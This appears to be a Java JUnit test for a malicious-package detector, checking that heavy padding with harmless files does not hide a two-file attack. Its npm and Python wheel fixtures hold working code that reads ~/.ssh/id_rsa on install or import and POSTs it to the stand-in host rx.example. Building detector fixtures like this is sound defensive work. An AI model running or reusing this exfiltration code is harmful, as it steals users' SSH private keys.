package cordon.inspect;

import static org.assertj.core.api.Assertions.assertThat;

import cordon.formats.archive.ByteSource;
import cordon.inspect.delta.Baseline;
import cordon.inspect.rules.Rules;
import cordon.inspect.testing.Artifact;
import cordon.inspect.tree.UnpackLimits;
import java.io.IOException;
import org.junit.jupiter.api.Test;

/** Harmless code, however much of it lies before, does not hide what two files do together. */
class PaddingTest {
  private static final StaticInspector INSPECTOR =
      new StaticInspector(Rules.own(true).build(), UnpackLimits.DEFAULT);

  private static Verdict verdict(Artifact artifact) throws IOException {
    return INSPECTOR
        .inspect(Subject.file(artifact.fileName()), ByteSource.of(artifact.bytes()), Baseline.NONE)
        .verdict();
  }

  private static Artifact padded(Artifact artifact, String folder, String line, String ending) {
    String padding = (line + " ".repeat(63 - line.length()) + "\n").repeat(1 << 10);
    for (int i = 0; i < 40; i++) {
      artifact.file(folder + "a" + i + ending, padding);
    }
    return artifact;
  }

  @Test
  void scriptsOfPackages() throws IOException {
    Artifact npm = Artifact.npm("demo", "1.0.0");
    npm.file(
        "package.json",
        "{\"name\":\"demo\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node z.js\"}}");
    padded(npm, "", "exports.x = 'nothing at all';", ".js")
        .file(
            "take.js",
            "const fs = require('fs'), os = require('os');\n"
                + "exports.all = () => fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n")
        .file(
            "give.js",
            "const https = require('https');\n"
                + "exports.give = (d) => { const r = https.request({host: 'rx.example',"
                + " method: 'POST'}); r.write(d); r.end(); };\n")
        .file("z.js", "require('./give').give(require('./take').all());\n");
    assertThat(verdict(npm)).isEqualTo(Verdict.MALICIOUS);
  }

  @Test
  void modulesOfWheels() throws IOException {
    Artifact wheel = Artifact.wheel("demo", "1.0.0");
    padded(wheel, "demo/", "x = 'nothing at all'", ".py")
        .file(
            "demo/take.py",
            "import os\ndef every():\n"
                + "  return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n")
        .file(
            "demo/give.py",
            "import requests\ndef give(d):\n  requests.post('https://rx.example/', data=d)\n")
        .file(
            "demo/__init__.py", "from .take import every\nfrom .give import give\ngive(every())\n");
    assertThat(verdict(wheel)).isEqualTo(Verdict.MALICIOUS);
  }
}
